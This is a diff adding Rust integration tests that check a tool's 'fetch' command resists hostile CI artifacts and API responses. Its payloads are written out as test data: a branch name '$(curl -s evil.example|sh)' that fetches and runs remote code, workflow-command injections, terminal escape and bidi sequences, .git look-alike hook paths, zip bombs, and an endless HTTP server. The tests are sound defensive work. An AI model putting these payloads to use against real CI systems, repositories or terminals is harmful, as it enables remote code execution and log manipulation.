@@ -1,0 +1,316 @@
+//! `fetch` against artifacts and API answers built to attack the person running it: names that
+//! carry workflow commands or terminal escapes, a branch that is a shell command, manifests that
+//! delete directories or name one file twice, `.git` look-alikes, zips claiming millions of
+//! entries, runs whose artifacts together are too large, and API bodies without end.
+
+use std::io::{Read, Write};
+
+use super::*;
+
+/// A workflow command in `text` that rerecord did not write: the legacy form anywhere, or a
+/// `::` command at the start of a line.
+fn injected_command(text: &str) -> Option<&str> {
+    text.lines()
+        .find(|line| line.contains("##[") || line.trim_start().starts_with("::"))
+}
+
+/// The manifest of `files` with `edit` applied, in an artifact holding those files.
+fn artifact_with(files: &[(&str, &[u8])], edit: impl FnOnce(&mut serde_json::Value)) -> Vec<u8> {
+    let mut manifest = zips::manifest_value(1, files, &[]);
+    edit(&mut manifest);
+    let mut zip = ZipBuilder::new();
+    for (path, bytes) in files {
+        zip = zip.file(path, bytes);
+    }
+    zip.raw_manifest(&manifest).finish()
+}
+
+#[test]
+fn fetch_output_defuses_workflow_commands_in_file_and_artifact_names() {
+    let w = World::new();
+    let names = [
+        "tests/integration/recordings/x##[error]pwned.json",
+        "tests/integration/recordings/##[add-mask]secret.json",
+        "tests/integration/recordings/##[set-output name=x]y.json",
+        "tests/integration/recordings/##[stop-commands]tok.json",
+        "tests/integration/recordings/::warning::x.json",
+    ];
+    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (*n, &b"{}\n"[..])).collect();
+    let run = w.run_with(vec![(
+        "recordings-##[error]artifact",
+        zips::artifact(1, &files),
+    )]);
+
+    let out = w
+        .fetch_run(run)
+        .env("GITHUB_ACTIONS", "true")
+        .run()
+        .success();
+    for name in names {
+        assert_eq!(w.read(name), "{}\n", "{name} was applied");
+    }
+    let all = out.all_output();
+    assert_eq!(injected_command(&all), None, "{all}");
+    assert!(all.contains("x## [error]pwned.json"), "{all}");
+
+    let json = w
+        .fetch_run(run)
+        .args(["--json", "--dry-run"])
+        .run()
+        .success();
+    assert!(!json.stdout.contains("##["), "{}", json.stdout);
+    assert_eq!(
+        json.json()["artifacts"][0]["name"],
+        "recordings-##[error]artifact"
+    );
+}
+
+#[test]
+fn fetch_shows_esc_sequences_and_bidi_characters_from_a_manifest_escaped() {
+    let w = World::new();
+    let hostile = "main\u{1b}]8;;https://evil.example\u{7}click\u{1b}[2J\u{202e}txt.exe";
+    let zip = artifact_with(&[(A, b"{\"a\": 9}\n")], |m| {
+        m["head_ref"] = hostile.into();
+        m["head_sha"] = "2222222222222222222222222222222222222222".into();
+        m["setup"] = format!("ollama{hostile}").into();
+    });
+    let run = w.run_with(vec![("recordings-1-1-record", zip)]);
+
+    let out = w.fetch_run(run).arg("--commit").run().success();
+    let all = out.all_output();
+    for raw in ['\u{1b}', '\u{7}', '\u{202e}'] {
+        assert!(!all.contains(raw), "raw {raw:?} in:\n{all:?}");
+    }
+    assert!(
+        all.contains("main\\u{1b}]8;;https://evil.example\\u{7}click"),
+        "{all}"
+    );
+    assert!(all.contains("\\u{202e}txt.exe"), "{all}");
+    let message = git(&w.work, &["log", "-1", "--format=%B"]);
+    assert!(
+        !message.contains('\u{1b}') && message.lines().count() == 1,
+        "{message:?}"
+    );
+}
+
+#[test]
+fn fetch_shell_quotes_a_hostile_branch_in_the_command_it_suggests() {
+    let w = World::new();
+    let branch = "$(curl -s evil.example|sh)";
+    let mut spec = RunSpec::completed(WORKFLOW, branch, &w.head, "success");
+    spec.event = "pull_request".into();
+    spec.head_repository = FORK.into();
+    let run = w.fake.add_run(UPSTREAM, spec);
+    w.fake.add_artifact(
+        UPSTREAM,
+        run,
+        "recordings-1-1-record",
+        artifact(&[(A, "x\n")]),
+        true,
+    );
+
+    let out = w.fetch_run(run).run().failure();
+    assert!(
+        out.stderr
+            .contains("rerecord schedule --branch '$(curl -s evil.example|sh)'"),
+        "{}",
+        out.stderr
+    );
+}
+
+#[test]
+fn fetch_refuses_a_manifest_that_deletes_a_recordings_directory() {
+    let w = World::new();
+    let zip = ZipBuilder::new()
+        .manifest(1, &[], &["tests/integration/agents/recordings"])
+        .finish();
+    let before = w.snapshot();
+    let run = w.run_with(vec![("recordings-1-1-record", zip)]);
+
+    let out = w.fetch_run(run).run().failure();
+    assert_eq!(w.snapshot(), before, "{}", out.stderr);
+    assert_eq!(w.read(B), "{\"b\": 1}\n");
+    assert!(
+        out.stderr.contains("tests/integration/agents/recordings"),
+        "{}",
+        out.stderr
+    );
+}
+
+#[test]
+fn fetch_refuses_names_that_differ_only_by_unicode_normalisation_or_case() {
+    let nfc = "tests/integration/recordings/caf\u{e9}.json";
+    let nfd = "tests/integration/recordings/cafe\u{301}.json";
+    for (first, second) in [(nfc, nfd), (A, "tests/integration/recordings/A.json")] {
+        let w = World::new();
+        let before = w.snapshot();
+        let run = w.run_with(vec![
+            ("recordings-1", artifact(&[(first, "one\n")])),
+            ("recordings-2", artifact(&[(second, "two\n")])),
+        ]);
+        let out = w.fetch_run(run).run().failure();
+        assert!(
+            out.stderr.contains("names differ only in case or Unicode"),
+            "{}",
+            out.stderr
+        );
+        assert_eq!(w.snapshot(), before);
+    }
+}
+
+#[test]
+fn fetch_refuses_entries_that_macos_or_windows_would_read_as_dot_git() {
+    for name in [
+        "tests/integration/recordings/.g\u{200c}it/hooks/post-checkout",
+        "tests/integration/recordings/GIT~1/config",
+        "tests/integration/recordings/.git. /config",
+        "tests/integration/recordings/.git::$INDEX_ALLOCATION/config",
+    ] {
+        let w = World::new();
+        let out = w.assert_refused(artifact(&[(name, "#!/bin/sh\n")]), &[]);
+        assert!(
+            out.stderr.contains(".git") || out.stderr.contains("dot or space"),
+            "{}",
+            out.stderr
+        );
+        assert!(!out.stderr.contains('\u{200c}'), "{:?}", out.stderr);
+    }
+}
+
+#[test]
+fn fetch_refuses_a_zip_claiming_millions_of_entries_at_once() {
+    let w = World::new();
+    let started = std::time::Instant::now();
+    w.assert_refused(
+        zips::zip64_end_claiming(3_000_000, 3_000_000 * 46),
+        &["3000000 entries by its end-of-central-directory record"],
+    );
+    assert!(started.elapsed() < std::time::Duration::from_secs(20));
+}
+
+#[test]
+fn fetch_refuses_a_run_whose_artifacts_together_are_over_the_total_cap() {
+    // Listed sizes over the cap: refused before anything is downloaded.
+    let w = World::new();
+    let noise = |seed: u8| -> Vec<u8> {
+        (0..1500u32)
+            .map(|i| (i * 7 + u32::from(seed)) as u8 ^ (i >> 3) as u8)
+            .collect()
+    };
+    let big: Vec<(String, Vec<u8>)> = (0..3u8)
+        .map(|i| {
+            let path = format!("tests/integration/recordings/big-{i}.json");
+            let zip = ZipBuilder::new()
+                .stored(&path, &noise(i))
+                .manifest(1, &[(&path, &noise(i))], &[])
+                .finish();
+            (format!("recordings-{i}"), zip)
+        })
+        .collect();
+    let before = w.snapshot();
+    let run = w.run_with(big.iter().map(|(n, z)| (n.as_str(), z.clone())).collect());
+    let out = w
+        .fetch_run(run)
+        .env("RERECORD_MAX_TOTAL_SIZE", "4000")
+        .run()
+        .failure();
+    assert!(
+        out.stderr
+            .contains("over the 4000 byte limit for all artifacts of a run"),
+        "{}",
+        out.stderr
+    );
+    assert_eq!(w.snapshot(), before);
+    let downloads = w
+        .fake
+        .requests()
+        .iter()
+        .filter(|r| r.path.ends_with("/zip"))
+        .count();
+    assert_eq!(downloads, 0, "downloaded before refusing");
+
+    // Small zips that unpack to more than the cap together: refused while unpacking.
+    let w = World::new();
+    let zeros: Vec<(String, Vec<u8>)> = (0..3u8)
+        .map(|i| {
+            let path = format!("tests/integration/recordings/zeros-{i}.json");
+            let bytes = zips::zeros(2000);
+            let zip = ZipBuilder::new()
+                .file(&path, &bytes)
+                .manifest(1, &[(&path, &bytes)], &[])
+                .finish();
+            (format!("recordings-{i}"), zip)
+        })
+        .collect();
+    let before = w.snapshot();
+    let run = w.run_with(zeros.iter().map(|(n, z)| (n.as_str(), z.clone())).collect());
+    let out = w
+        .fetch_run(run)
+        .env("RERECORD_MAX_TOTAL_SIZE", "5000")
+        .run()
+        .failure();
+    assert!(
+        out.stderr
+            .contains("the limit for all artifacts of a run together"),
+        "{}",
+        out.stderr
+    );
+    assert_eq!(w.snapshot(), before);
+}
+
+#[test]
+fn fetch_refuses_a_manifest_head_sha_that_is_not_a_commit_id_without_panicking() {
+    let w = World::new();
+    let zip = artifact_with(&[(A, b"{\"a\": 3}\n")], |m| {
+        m["head_sha"] =
+            "abcdefghijk\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}\u{e9}z".into();
+    });
+    let out = w.assert_refused(zip, &["not a commit id"]);
+    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
+}
+
+/// An "API" that answers every request with 200 and a JSON body without end.
+fn endless_api() -> (String, std::thread::JoinHandle<()>) {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    let server = std::thread::spawn(move || {
+        for stream in listener.incoming().take(8) {
+            let Ok(mut stream) = stream else { return };
+            std::thread::spawn(move || {
+                let mut buf = [0u8; 4096];
+                let _ = stream.read(&mut buf);
+                let head = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
+                if stream.write_all(head.as_bytes()).is_err() {
+                    return;
+                }
+                let chunk = format!("{:x}\r\n{}\r\n", 64 * 1024, " ".repeat(64 * 1024));
+                // 512 MiB at most; the client is expected to hang up long before.
+                for _ in 0..8192 {
+                    if stream.write_all(chunk.as_bytes()).is_err() {
+                        return;
+                    }
+                }
+            });
+        }
+    });
+    (url, server)
+}
+
+#[test]
+fn fetch_stops_reading_an_api_answer_that_never_ends() {
+    let w = World::new();
+    let (url, _server) = endless_api();
+    let started = std::time::Instant::now();
+    let out = rerecord()
+        .current_dir(&w.work)
+        .env("GH_TOKEN", TOKEN)
+        .args(["fetch", "--api-url", &url, "--repo", UPSTREAM, "--run", "7"])
+        .run()
+        .failure();
+    assert!(
+        out.stderr.contains("larger than 8388608 bytes"),
+        "{}",
+        out.stderr
+    );
+    assert!(started.elapsed() < std::time::Duration::from_secs(60));
+}
